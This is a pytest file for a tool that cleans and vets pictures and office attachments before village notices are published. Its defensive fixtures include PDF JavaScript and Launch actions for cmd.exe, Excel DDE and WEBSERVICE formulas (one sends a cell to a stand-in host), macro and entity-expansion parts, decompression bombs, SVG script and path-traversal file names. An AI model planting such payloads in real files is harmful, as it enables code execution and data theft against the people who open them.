"""Pictures and attachments of documents: what they show is published, what they hide is not."""

from __future__ import annotations

import io
import json
import re
import struct
import zipfile
import zlib
from collections.abc import Callable
from datetime import date
from pathlib import Path

import pikepdf
import pypdf
import pypdfium2
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.comments import Comment
from PIL import Image
from playwright.sync_api import Browser

from generator.build import Settings, build
from generator.intake.attachments import clean, name_fault
from generator.intake.cleaned import BlindPage, Cleaned, Refused
from generator.intake.documents import read_document
from generator.intake.images import LONGEST_SIDE, clean_picture, without_words
from generator.intake.smalltables import small_table
from generator.model.attachments import Attachment
from generator.model.village import Document
from generator.printing import SheetRequest, draw_sheet
from tests.attached import (
    DOCX_TYPES,
    OWNER,
    PLACE,
    RELATIONS,
    W,
    docx,
    packed,
    pdf,
    photo,
    relations,
)
from tests.browsing import wait_until
from tests.township import ROOT, saved_workbook, small_content, township, write

HEAD = "---\ntitle: 甲\ndate: 2025-09-20\n---\n\n"


# ------------------------------------------------------------------------- files for the tests


def planted(content: bytes) -> list[bytes]:
    """What of the owner, the place and their containers stands in a file, packed or not."""
    bodies = [content]
    if content.startswith(b"PK"):
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            bodies += [archive.read(name) for name in archive.namelist()]
    if content.startswith(b"%PDF"):
        with pikepdf.open(io.BytesIO(content)) as pdf:
            bodies += [o.read_raw_bytes() for o in pdf.objects if isinstance(o, pikepdf.Stream)]
    words = (b"PLANTED", b"Exif", b"http://ns.adobe.com", b"ICC_PROFILE", b"tEXt", b"iTXt", b"eXIf")
    return [word for word in words for body in bodies if word in body]


@pytest.mark.parametrize(
    ("change", "count"),
    [
        (lambda book: None, 3),
        (lambda book: book.active.merge_cells("A2:B2"), 0),
        (lambda book: [book.active.append(["丁", n, None]) for n in range(19)], 0),
        (lambda book: book.active.append(["字" * 61]), 0),
        (lambda book: book.create_sheet("另一张").append(["甲", "乙"]), 0),
        (lambda book: setattr(book.active["B1"], "value", None), 0),
    ],
)
def test_only_one_small_table_is_shown_whole(
    change: Callable[[Workbook], object], count: int
) -> None:
    """As the spreadsheet program shows it; what is merged, long or several is for download."""
    rows = small_table(xlsx(change), ".xlsx")
    assert len(rows) == count
    assert not rows or rows[1] == ("甲某", "1200.5", "1990-01-02")


@pytest.mark.parametrize(
    ("name", "title", "called"),
    [
        ("donggou-pingfen.xlsx", "", ""),
        ("各家报价.xlsx", "", "各家报价"),
        ("a.xlsx", "各家报价", "各家报价"),
    ],
)
def test_no_raw_file_name_stands_on_a_wall(name: str, title: str, called: str) -> None:
    attachment = Attachment(name, b"0" * 12_400, title=title)
    assert attachment.called == called
    assert attachment.kind == "Excel 表格，12 KB"


def xlsx(change: Callable[[Workbook], object] = lambda book: None) -> bytes:
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    for line in (
        ["户主", "金额", "出生"],
        ["甲某", 1200.5, date(1990, 1, 2)],
        ["数", 1.5e16, None],
    ):
        sheet.append(line)
    book.properties.creator = book.properties.lastModifiedBy = OWNER
    book.properties.title = PLACE
    change(book)
    return saved_workbook(book)


def cleaned(ending: str, raw: bytes) -> Cleaned:
    """The file cleaned, which it must be."""
    result = clean(ending, raw)
    assert isinstance(result, Cleaned), result
    assert clean(ending, raw) == result  # the same bytes each time
    return result


def refused(ending: str, raw: bytes) -> Refused:
    result = clean(ending, raw)
    assert isinstance(result, Refused)
    return result


def opened(content: bytes) -> Image.Image:
    return Image.open(io.BytesIO(content))


def document(
    folder: Path, text: str, name: str = "2025-09-20-a.md"
) -> tuple[Document | None, list[tuple[str, int]]]:
    """What a document in `folder` gives, and the codes and rows of its problems."""
    path = write(folder, f"notices/{name}", text)
    read, faults = read_document(path, "a.md")
    return read, [(p.code, p.source.row) for p in faults]


# ----------------------------------------------------------------------------------- pictures


@pytest.mark.parametrize(("kind", "becomes"), [("JPEG", "JPEG"), ("PNG", "PNG"), ("WEBP", "JPEG")])
def test_a_picture_keeps_what_one_sees_and_nothing_else(kind: str, becomes: str) -> None:
    raw = photo(kind, (2400, 1200))
    assert OWNER.encode() in raw
    result = cleaned(".jpg", raw) if kind == "JPEG" else clean_picture(raw)
    assert isinstance(result, Cleaned)
    assert planted(result.content) == []
    picture = opened(result.content)
    assert picture.format == becomes
    assert picture.size == result.size == (LONGEST_SIDE, LONGEST_SIDE // 2)
    assert not picture.getexif()
    assert set(picture.info) <= {"jfif", "jfif_version", "jfif_unit", "jfif_density"} | {
        "progressive", "progression",
    }  # fmt: skip
    red, blue = (picture.convert("RGB").getpixel((x, 100)) for x in (100, LONGEST_SIDE - 100))
    assert red[0] > 150 > red[2]
    assert blue[2] > 150 > blue[0]


def test_a_picture_is_turned_upright() -> None:
    result = cleaned(".jpg", photo(turn=6))  # the camera was held on its side
    assert result.size == (300, 400)
    top, bottom = (opened(result.content).getpixel((150, y)) for y in (50, 350))
    assert (top[0] > 150, bottom[2] > 150) == (True, True)


def test_a_small_picture_is_not_made_larger() -> None:
    assert cleaned(".png", photo("PNG", (40, 30))).size == (40, 30)


@pytest.mark.parametrize("mode", ["1", "L", "P", "LA", "RGBA", "I;16", "RGB"])
def test_pictures_of_every_mode(mode: str) -> None:
    buffer = io.BytesIO()
    Image.new(mode, (30, 20)).save(buffer, "PNG")
    assert cleaned(".png", buffer.getvalue()).size == (30, 20)


def test_a_picture_in_printing_colours_can_be_shown() -> None:
    buffer = io.BytesIO()
    Image.new("CMYK", (30, 20), (0, 200, 200, 0)).save(buffer, "JPEG")
    picture = opened(cleaned(".jpg", buffer.getvalue()).content)
    assert picture.mode == "RGB"
    assert picture.getpixel((5, 5))[0] > 150


def test_a_large_photograph_as_png_becomes_a_jpeg() -> None:
    buffer = io.BytesIO()
    Image.effect_noise((1500, 1000), 90).convert("RGB").save(buffer, "PNG")
    result = cleaned(".png", buffer.getvalue())
    assert result.ending == "jpg"
    assert len(result.content) < len(buffer.getvalue())


def bomb(width: int, height: int) -> bytes:
    """A PNG of a few bytes that says it is very large."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunk = lambda name, data: (  # noqa: E731
        struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
    )
    body = chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0" * 99)) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + body


@pytest.mark.parametrize("side", [8_000, 10_000, 15_000, 30_000, 2**31 - 1])
def test_a_picture_too_large_to_decode_is_not_decoded(side: int) -> None:
    assert refused(".png", bomb(side, side)).kind in ("large", "content")


def animation() -> bytes:
    buffer = io.BytesIO()
    frames = [Image.new("RGB", (20, 20), (i * 90, 0, 0)) for i in range(3)]
    frames[0].save(buffer, "PNG", save_all=True, append_images=frames[1:])
    return buffer.getvalue()


@pytest.mark.parametrize(
    "raw",
    [b"", b"\xff\xd8\xff", b"\x89PNG\r\n\x1a\n", photo()[:2000], b"<svg onload='x'/>", animation()],
)
def test_what_is_no_whole_picture_is_refused(raw: bytes) -> None:
    result = clean_picture(raw)
    assert isinstance(result, Refused)
    assert result.kind == "content"


@given(st.binary(max_size=300), st.integers(0, 5000), st.sampled_from(["JPEG", "PNG", "WEBP"]))
def test_a_damaged_picture_is_a_picture_or_a_problem(noise: bytes, at: int, kind: str) -> None:
    raw = photo(kind, (60, 40))
    at %= len(raw)
    damaged = raw[:at] + noise + raw[at + len(noise) :]
    result = clean_picture(damaged)
    if isinstance(result, Cleaned):
        assert planted(result.content) == []
    without_words(damaged)


@pytest.mark.parametrize("kind", ["JPEG", "PNG"])
@pytest.mark.parametrize("more", [{}, {"progressive": True}])
def test_a_picture_in_a_file_keeps_its_pixels(kind: str, more: dict[str, bool]) -> None:
    raw = photo(kind, **more)
    bare = without_words(raw + b"PLANTED after the end")
    assert bare is not None
    assert planted(bare) == []
    assert opened(bare).convert("RGB").tobytes() == opened(raw).convert("RGB").tobytes()


# -------------------------------------------------------------------------------- attachments


def test_a_word_file_keeps_its_words_and_no_names() -> None:
    result = cleaned(".docx", docx())
    assert planted(docx()) != []
    assert planted(result.content) == []
    assert "公示表：0123号" in result.text  # over two runs
    with zipfile.ZipFile(io.BytesIO(result.content)) as archive:
        assert not [name for name in archive.namelist() if name.startswith("docProps")]
        parts = b"".join(archive.read(name) for name in archive.namelist())
    for word in (b"rsid", b"docProps", b"attachedTemplate", b"dotx"):
        assert word not in parts


def test_a_workbook_keeps_its_cells_and_no_names() -> None:
    result = cleaned(".xlsx", xlsx())
    assert planted(result.content) == []
    sheet = load_workbook(io.BytesIO(result.content)).active
    assert sheet is not None
    assert sheet["A2"].value == "甲某"
    assert "甲某\t1200.5\t1990-01-02" in result.text  # a birth date is a number in the file
    assert "15000000000000000" in result.text


def test_a_pdf_keeps_its_words_and_no_names() -> None:
    raw = pdf()
    result = cleaned(".pdf", raw)
    assert planted(raw) != []
    assert planted(result.content) == []
    assert "Notice 2025" in result.text
    assert "村务公开的通知" in result.text
    assert result.blind == ()
    reader = pypdf.PdfReader(io.BytesIO(result.content))
    assert not reader.metadata
    assert reader.xmp_metadata is None
    assert "Notice 2025" in reader.pages[0].extract_text()
    with pypdfium2.PdfDocument(result.content) as document:
        assert document[0].render().to_pil().getpixel((30, 170))[0] > 150  # the photograph


def test_an_earlier_version_of_a_pdf_is_gone() -> None:
    reader = pypdf.PdfReader(io.BytesIO(pdf()))
    writer = pypdf.PdfWriter(io.BytesIO(pdf()), incremental=True)
    assert len(reader.pages) == 1
    buffer = io.BytesIO()
    writer.write(buffer)
    raw = buffer.getvalue() + b"\n% PLANTED\n"
    assert planted(cleaned(".pdf", raw).content) == []


def test_all_texts_beside_the_pages_of_a_pdf_are_seen() -> None:
    def change(document: pikepdf.Pdf) -> None:
        with document.open_outline() as outline:
            outline.root.append(pikepdf.OutlineItem("书签里的话", 0))
        field = pikepdf.Dictionary(
            Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Widget, FT=pikepdf.Name.Tx,
            T=pikepdf.String("field"), V=pikepdf.String("表格里的话"), Rect=[0, 0, 9, 9],
        )  # fmt: skip
        document.pages[0].obj["/Annots"] = pikepdf.Array([field])

    text = cleaned(".pdf", pdf(change)).text
    assert "书签里的话" in text
    assert "表格里的话" in text


def test_a_scan_is_reported_since_nobody_can_look_into_it() -> None:
    assert cleaned(".pdf", pdf(text=False)).blind == (BlindPage(1, "scan"),)
    assert cleaned(".docx", docx()).blind == (BlindPage(0, "scan"),)  # few words and a picture


def action(kind: str, **more: object) -> Callable[[pikepdf.Pdf], object]:
    """A PDF that does something when it is opened."""

    def change(document: pikepdf.Pdf) -> None:
        document.Root["/OpenAction"] = pikepdf.Dictionary(S=pikepdf.Name(f"/{kind}"), **more)

    return change


def annotation(**entries: object) -> Callable[[pikepdf.Pdf], object]:
    def change(document: pikepdf.Pdf) -> None:
        note = pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=[0, 0, 9, 9], **entries)
        document.pages[0].obj["/Annots"] = pikepdf.Array([note])

    return change


def attach(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = pikepdf.AttachedFileSpec(document, b"MZ")


NAME = pikepdf.Name
PDF_FAULTS = {
    "javascript": (action("JavaScript", JS=pikepdf.String("app.alert(1)")), "active"),
    "launch": (action("Launch", F=pikepdf.String("cmd.exe")), "active"),
    "submit": (action("SubmitForm", F=pikepdf.String("http://x.example")), "active"),
    "other file": (action("GoToR", F=pikepdf.String("b.pdf")), "active"),
    "embedded": (attach, "active"),
    "comment": (
        annotation(Subtype=NAME.Text, Contents=pikepdf.String("请改"), T=pikepdf.String(OWNER)),
        "hidden",
    ),
    "script link": (
        annotation(
            Subtype=NAME.Link,
            A=pikepdf.Dictionary(S=NAME.URI, URI=pikepdf.String("javascript:alert(1)")),
        ),
        "active",
    ),
    "file link": (
        annotation(
            Subtype=NAME.Link,
            A=pikepdf.Dictionary(S=NAME.URI, URI=pikepdf.String("file:///C:/Users/a")),
        ),
        "active",
    ),
    "signature": (
        annotation(
            Subtype=NAME.Widget,
            FT=NAME.Sig,
            T=pikepdf.String("s"),
            V=pikepdf.Dictionary(Type=NAME.Sig, ByteRange=pikepdf.Array([0, 1, 2, 3])),
        ),
        "hidden",
    ),
}


@pytest.mark.parametrize("name", PDF_FAULTS)
def test_a_pdf_that_does_or_hides_something_is_refused(name: str) -> None:
    change, kind = PDF_FAULTS[name]
    assert refused(".pdf", pdf(change)).kind == kind


def test_a_web_link_in_a_pdf_stays() -> None:
    link = annotation(
        Subtype=NAME.Link,
        T=pikepdf.String(OWNER),
        A=pikepdf.Dictionary(S=NAME.URI, URI=pikepdf.String("https://mingbai.example/")),
    )
    result = cleaned(".pdf", pdf(link))
    assert "https://mingbai.example/" in result.text
    assert planted(result.content) == []


@pytest.mark.parametrize(("user", "owner"), [("geheim", "geheim"), ("", "geheim")])
def test_a_locked_pdf_is_refused(user: str, owner: str) -> None:
    buffer = io.BytesIO()
    with pikepdf.open(io.BytesIO(pdf())) as document:
        document.save(buffer, encryption=pikepdf.Encryption(user=user, owner=owner))
    assert refused(".pdf", buffer.getvalue()).kind == "unreadable"


def test_a_pdf_that_unpacks_without_end_is_refused() -> None:
    raw = pdf(lambda d: setattr(d.pages[0], "Contents", d.make_stream(b" " * 60_000_000)))
    assert len(raw) < 1_000_000
    assert refused(".pdf", raw).kind == "large"


def note(text: str) -> Callable[[Workbook], object]:
    return lambda book: setattr(book.worksheets[0]["A1"], "comment", Comment(text, OWNER))


def hide_sheet(book: Workbook) -> None:
    book.create_sheet("底稿").sheet_state = "veryHidden"


def run(inside: str) -> str:
    return f"<w:p><w:r>{inside}</w:r></w:p>"


OFFICE_FAULTS: dict[str, tuple[str, bytes, str]] = {
    "xlsx comment": (".xlsx", xlsx(note("请改")), "hidden"),
    "xlsx hidden sheet": (".xlsx", xlsx(hide_sheet), "hidden"),
    "xlsx hidden row": (
        ".xlsx",
        xlsx(lambda b: setattr(b.worksheets[0].row_dimensions[2], "hidden", True)),
        "hidden",
    ),
    "xlsx hidden column": (
        ".xlsx",
        xlsx(lambda b: setattr(b.worksheets[0].column_dimensions["C"], "hidden", True)),
        "hidden",
    ),
    "xlsx formula on the web": (
        ".xlsx",
        xlsx(lambda b: b.worksheets[0].append(['=WEBSERVICE("http://x.example/"&A1)'])),
        "active",
    ),
    "xlsx program": (
        ".xlsx",
        xlsx(lambda b: b.worksheets[0].append(["=cmd|'/C calc'!A0"])),
        "active",
    ),
    "docx revision": (
        ".docx",
        docx(
            f'<w:p><w:del w:id="1" w:author="{OWNER}"><w:r><w:delText>旧</w:delText></w:r></w:del></w:p>'
        ),
        "hidden",
    ),
    "docx comment": (
        ".docx",
        docx(parts={"word/comments.xml": f"<w:comments {W}><w:comment w:id='1'/></w:comments>"}),
        "hidden",
    ),
    "docx hidden words": (
        ".docx",
        docx(run("<w:rPr><w:vanish/></w:rPr><w:t>藏着的话</w:t>")),
        "hidden",
    ),
    "docx field": (
        ".docx",
        docx(run("<w:instrText>DDE</w:instrText><w:instrText>AUTO c:\\\\cmd</w:instrText>")),
        "active",
    ),
    "docx macro": (".docx", docx(parts={"word/vbaProject.bin": b"x"}), "active"),
    "docx embedded": (".docx", docx(parts={"word/embeddings/a.xlsx": b"x"}), "active"),
    "docx activex": (".docx", docx(parts={"word/activeX/activeX1.xml": "<a/>"}), "active"),
    "docx remote picture": (
        ".docx",
        docx(
            parts={
                "word/_rels/document.xml.rels": relations(
                    f'Id="rId7" Type="{RELATIONS}/image" Target="http://x.example/a.png" '
                    'TargetMode="External"'
                )
            }
        ),
        "active",
    ),
    "docx script link": (
        ".docx",
        docx(
            parts={
                "word/_rels/document.xml.rels": relations(
                    f'Id="rId7" Type="{RELATIONS}/hyperlink" Target="javascript:alert(1)" '
                    'TargetMode="External"'
                )
            }
        ),
        "active",
    ),
    "docx html": (".docx", docx(parts={"word/afchunk.html": "<script>"}), "content"),
    "docx metafile": (".docx", docx(parts={"word/media/image2.emf": b"x"}), "content"),
    "docx entities": (
        ".docx",
        docx(
            parts={
                "word/header1.xml": '<!DOCTYPE a [<!ENTITY b "bb"><!ENTITY c "&b;&b;&b;">]><a>&c;</a>'
            }
        ),
        "unreadable",
    ),
    "docx broken": (".docx", docx(parts={"word/header1.xml": "<a><b></a>"}), "unreadable"),
    "docx way out": (".docx", docx(parts={"../a.xml": "<a/>"}), "unreadable"),
    "docx with macros by type": (
        ".docx",
        docx(parts={"[Content_Types].xml": DOCX_TYPES.replace("officedocument", "x.macroEnabled")}),
        "content",
    ),
    "docx bomb": (".docx", docx(parts={"word/header1.xml": b" " * 40_000_000}), "large"),
    "xlsx as docx": (".docx", xlsx(), "content"),
    "any zip": (".xlsx", packed({"a.txt": "x"}), "content"),
    "locked or old": (".xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "unreadable"),
    "torn": (".docx", docx()[:900], "unreadable"),
}


@pytest.mark.parametrize("name", OFFICE_FAULTS)
def test_an_office_file_that_does_or_hides_something_is_refused(name: str) -> None:
    ending, raw, kind = OFFICE_FAULTS[name]
    assert refused(ending, raw).kind == kind


@pytest.mark.parametrize("ending", [".pdf", ".docx", ".xlsx", ".csv", ".txt", ".jpg", ".png"])
@pytest.mark.parametrize(
    "raw",
    [
        pdf(), docx(), photo(), photo("PNG"), b"GIF89a", b"MZ\x90\0", b"\x7fELF", b"RIFF....WEBP",
        b"<!DOCTYPE html><script>alert(1)</script>", b"<svg xmlns='x' onload='alert(1)'/>",
    ],
)  # fmt: skip
def test_content_must_be_what_the_name_says(ending: str, raw: bytes) -> None:
    fitting = {b"%PDF": ".pdf", b"PK\x03\x04": ".docx", b"\xff\xd8\xff": ".jpg", b"\x89PNG": ".png"}
    if not any(raw.startswith(mark) and ending == kind for mark, kind in fitting.items()):
        assert isinstance(clean(ending, raw), Refused)


def test_text_is_published_so_that_phones_can_show_it() -> None:
    assert cleaned(".txt", "位置：村口".encode("gb18030")).content == "位置：村口".encode(
        "utf-8-sig"
    )
    assert cleaned(".txt", "位置：村口".encode()).content == "位置：村口".encode()
    assert cleaned(".csv", "户主,金额\n甲,-300\n".encode()).text == "户主,金额\n甲,-300\n"
    for text in ("甲\u202e乙", "甲\x07", "甲\u2028乙"):
        assert refused(".txt", text.encode()).kind == "content"


@given(
    st.sampled_from([".pdf", ".docx", ".xlsx", ".csv", ".txt", ".jpg", ".png"]),
    st.binary(max_size=200),
    st.integers(0, 10_000),
)
def test_a_damaged_attachment_is_cleaned_or_refused(ending: str, noise: bytes, at: int) -> None:
    whole = {".pdf": pdf(), ".docx": docx(), ".xlsx": xlsx()}.get(ending, photo())
    at %= len(whole)
    clean(ending, whole[:at] + noise + whole[at + len(noise) :])
    clean(ending, noise)


# -------------------------------------------------------------------------------------- names


@pytest.mark.parametrize(
    "name", ["预算表.xlsx", "a b.pdf", "2025年（一）.docx", "A-1_2.JPG", "𠮷.pdf"]
)
def test_ordinary_names(name: str) -> None:
    assert name_fault(name) == ""


@pytest.mark.parametrize(
    "name",
    [
        "", ".", "..", "../a.pdf", "/etc/passwd", "a/b.pdf", "..\\a.pdf", "C:\\a.pdf", "C:a.pdf",
        "\\\\host\\a.pdf", "a.pdf.", "a.pdf ", " a.pdf", "CON", "con.pdf", "NUL.txt", "Aux.jpg",
        "COM1.pdf", "lpt9.docx", "con .pdf", "a\0.pdf", "a\n.pdf", "a\u202efdp.exe", "a\u200b.pdf",
        "a\ue000.pdf", "a\ud800.pdf", "长" * 81 + ".pdf", "-rf.pdf", "~$a.docx", ".htaccess",
        "a:b.pdf", "a?.pdf", "a*.pdf", "a|b.pdf", '"a".pdf', "<a>.pdf", "index.html", "DATA.json",
        "poster.pdf", "Manifest.JSON", "poster-long.png", "Poster-Tiles.pdf",
    ],
)  # fmt: skip
def test_names_that_trick_or_trouble_computers(name: str) -> None:
    assert name_fault(name)


def test_everything_that_is_written_beside_a_document_is_a_reserved_name(site: Path) -> None:
    """Whatever a build writes there, an attachment of that name would be written twice."""
    written: set[str] = set()
    for page in site.glob("v/*/*/*/data.json"):
        content = json.loads(page.read_bytes())["content"]
        own = set((content["document"] or {}).get("attachments", ()))
        written |= {path.name for path in page.parent.iterdir()} - own
    sheets = {"poster.pdf", "poster.png", "poster-long.png"}
    assert written >= {"index.html", "data.json", "data.csv", *sheets}
    assert [name for name in sorted(written) if not name_fault(name)] == []


def test_an_attachment_of_such_a_name_keeps_its_document_out_and_no_other(tmp_path: Path) -> None:
    villages = township(tmp_path)
    folder = villages / "qingshi" / "dongli" / "notices"
    write(folder, "poster-long.png", photo("PNG", (80, 40)))
    text = HEAD.replace("---\n\n", "attachments: [poster-long.png]\n---\n\n")
    write(folder, "2025-09-19-tu.md", f"{text}看附件。\n")
    site = tmp_path / "site"
    settings = Settings(
        small_content(tmp_path),
        villages,
        ROOT / "templates",
        site,
        date(2025, 10, 10),
        sheets="none",
        jobs=1,
    )
    result = build(settings, lambda _: None)
    assert [(p.code, p.value) for p in result.problems] == [("attachment-name", "poster-long.png")]
    assert not (site / "v/dongli/notices/2025-09-19-tu").exists()
    assert (site / "v/dongli/ledger/2025-09/index.html").is_file()


# ---------------------------------------------------------------------------------- documents


def test_a_picture_of_the_text_is_published_beside_it(tmp_path: Path) -> None:
    write(tmp_path, "notices/现场 1.JPG", photo("JPEG", (3000, 1500)))
    write(tmp_path, "notices/biao.webp", photo("WEBP"))
    body = '一\n\n![新路灯](<现场 1.JPG> "题")\n\n![表](./biao.webp) ![又一次](biao.webp)\n'
    read, faults = document(tmp_path, HEAD + body)
    assert faults == []
    assert read is not None
    names = [(a.name, a.picture and a.picture.file) for a in read.attachments]
    assert names == [("现场 1.JPG", "现场 1.JPG"), ("biao.jpg", "biao.webp")]
    assert read.attachments[0].picture is not None
    assert read.attachments[0].picture.width == LONGEST_SIDE
    assert not any(planted(a.content) for a in read.attachments)


@pytest.mark.parametrize(
    ("text", "code"),
    [
        ("![](a.jpg)", "image-alt"),
        ("![ ](a.jpg)", "image-alt"),
        ("![甲](b.jpg)", "image-missing"),
        ("![甲](http://x.example/a.jpg)", "image-address"),
        ("![甲](//x.example/a.jpg)", "image-address"),
        ("![甲](data:image/png;base64,AA)", "image-address"),
        ("![甲](javascript:alert(1))", "image-address"),
        ("![甲](../a.jpg)", "image-address"),
        ("![甲](%2e%2e%2fa.jpg)", "image-address"),
        ("![甲](/a.jpg)", "image-address"),
        ("![甲](..\\a.jpg)", "image-address"),
        ("![甲](C:\\a.jpg)", "image-address"),
        ("![甲]()", "image-address"),
        ("![甲](a.svg)", "image-content"),
        ("![甲](text.jpg)", "image-content"),
        ("![甲](page.md)", "image-content"),
        ("![甲](bomb.png)", "image-large"),
        ("![甲][a]\n\n[a]: a.jpg", "image-form"),
        ("![甲]", "image-form"),
        ("<img src=a.jpg>", "image-form"),
        ("![甲](link.jpg)", "image-content"),
    ],
)
def test_a_picture_that_cannot_be_shown_names_its_line(
    tmp_path: Path, text: str, code: str
) -> None:
    folder = tmp_path / "notices"
    write(folder, "a.jpg", photo())
    write(
        folder, "a.svg", "<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>"
    )
    write(folder, "text.jpg", "甲")
    write(folder, "page.md", "甲")
    write(folder, "bomb.png", bomb(9_000, 9_000))
    write(tmp_path, "a.jpg", photo())
    (folder / "link.jpg").symlink_to(tmp_path / "a.jpg")
    _, faults = document(tmp_path, f"{HEAD}一\n\n{text}\n")
    assert faults == [(code, 8)]


def test_attachments_name_the_line_of_their_entry(tmp_path: Path) -> None:
    folder = tmp_path / "notices"
    write(folder, "a.svg", "<svg/>")
    write(folder, "b.pdf", pdf(PDF_FAULTS["launch"][0]))
    write(folder, "c.pdf", pdf(text=False))
    write(folder, "d.docx", b"\0" * 10_000_001)
    write(tmp_path, "secret.txt", "甲")
    (folder / "e.txt").symlink_to(tmp_path / "secret.txt")
    write(folder, "f.txt", "甲")
    write(folder, "F.TXT", "乙")
    names = ["a.svg", "b.pdf", "c.pdf", "d.docx", "e.txt", "f.txt", "F.TXT"]
    entries = "".join(f"  - {name}\n" for name in names)
    text = f"---\ntitle: 甲\ndate: 2025-09-20\nattachments:\n{entries}---\n"
    read, faults = document(tmp_path, text)
    assert faults == [
        ("attachment-type", 5),
        ("attachment-active", 6),
        ("attachment-large", 8),
        ("attachment-content", 9),
        ("attachment-name", 2),
    ]
    assert read is not None
    assert [a.name for a in read.attachments] == ["c.pdf", "f.txt"]
    unread = read.attachments[0].unread
    assert unread is not None
    assert (unread.what, unread.source.row) == ("第 1 页是图片", 7)


def test_a_document_is_not_public_before_its_matter(tmp_path: Path) -> None:
    assert document(tmp_path, HEAD, "2025-09-21-a.md")[1] == [("document-date", 3)]
    assert document(tmp_path, HEAD, "2025-09-20-a.md")[1] == []
    assert document(tmp_path, HEAD, "2025-09-19-a.md")[1] == []


@pytest.mark.parametrize(
    ("text", "row"),
    [(HEAD + "一\n二\u202e三\n", 7), (HEAD.replace("甲", "甲\u2066"), 2), (HEAD + "\x07", 6)],
)
def test_characters_that_change_how_a_text_looks_are_refused(
    tmp_path: Path, text: str, row: int
) -> None:
    assert document(tmp_path, text) == (None, [("text-unprintable", row)])


def test_characters_without_width_are_taken_away(tmp_path: Path) -> None:
    read, faults = document(tmp_path, HEAD + "一\u200b二\ufeff三\u00ad四\n")
    assert faults == []
    assert read is not None
    assert read.body == "一二三四\n"


# ------------------------------------------------------------------------- the page, the sheet


def test_pictures_stand_on_page_and_sheet(
    tmp_path: Path, browser: Browser, serve_folder: Callable[[Path], str]
) -> None:
    villages = township(tmp_path)
    folder = villages / "qingshi" / "dongli" / "notices"
    write(folder, "deng.png", photo("PNG", (800, 400)))
    write(folder, "lu.jpg", photo("JPEG", (1000, 3000)))
    write(folder, "biao.xlsx", xlsx())
    named = "attachments:\n  - {file: biao.xlsx, title: 三家的报价}\n---\n\n"
    text = HEAD.replace("---\n\n", named)
    body = '看图：\n\n![第一盏 <灯>](deng.png "9月5日，三组")\n\n- ![路\\*\\*口](lu.jpg)\n'
    write(folder, "2025-09-19-tu.md", text + body)
    templates, site = ROOT / "templates", tmp_path / "site"
    settings = Settings(
        small_content(tmp_path), villages, templates, site, date(2025, 10, 10), sheets="none"
    )
    assert build(settings, lambda _: None).problems == ()
    record = tmp_path / "site" / "v/dongli/notices/2025-09-19-tu"
    names = {path.name for path in record.iterdir()}
    assert {"deng.png", "lu.jpg", "biao.xlsx"} <= names
    for path in record.iterdir():
        assert path.suffix == ".json" or planted(path.read_bytes()) == [], path
    page = browser.new_page(viewport={"width": 360, "height": 720})
    page.goto(serve_folder(tmp_path / "site") + "v/dongli/notices/2025-09-19-tu/")
    images = page.locator(".prose img")
    images.last.scroll_into_view_if_needed()
    wait_until(page, "[...document.images].every(i => i.complete && i.naturalWidth)")
    assert images.evaluate_all("all => all.map(i => [i.alt, i.width > 0, i.loading])") == [
        ["第一盏 <灯>", True, "lazy"],
        ["路**口", True, "lazy"],
    ]
    assert page.evaluate("document.documentElement.scrollWidth") == 360
    links = page.locator("#files ~ p").all_inner_texts()
    assert [re.sub(r"\d+ KB", "9 KB", link) for link in links] == ["三家的报价（Excel 表格，9 KB）"]
    assert page.locator(".prose .caption").all_inner_texts() == ["9月5日，三组"]
    rows = page.locator("#files ~ table tbody tr").all_text_contents()
    assert len(rows) == 2
    assert "甲某" in rows[0]
    page.close()
    sheet, problems = draw_sheet(SheetRequest("dongli", "notices", "2025-09-19-tu"), settings)
    assert problems == ()
    assert b"PLANTED" not in planted(sheet)  # it has words of its own about itself
    read = pypdf.PdfReader(io.BytesIO(sheet)).pages
    assert sum(len(page.images) for page in read) >= 2
    told = "".join("".join(page.extract_text().split()) for page in read)
    assert "附件：三家的报价" in told
    assert "biao" not in told
    assert "9月5日，三组" in told
    assert "甲某" in told
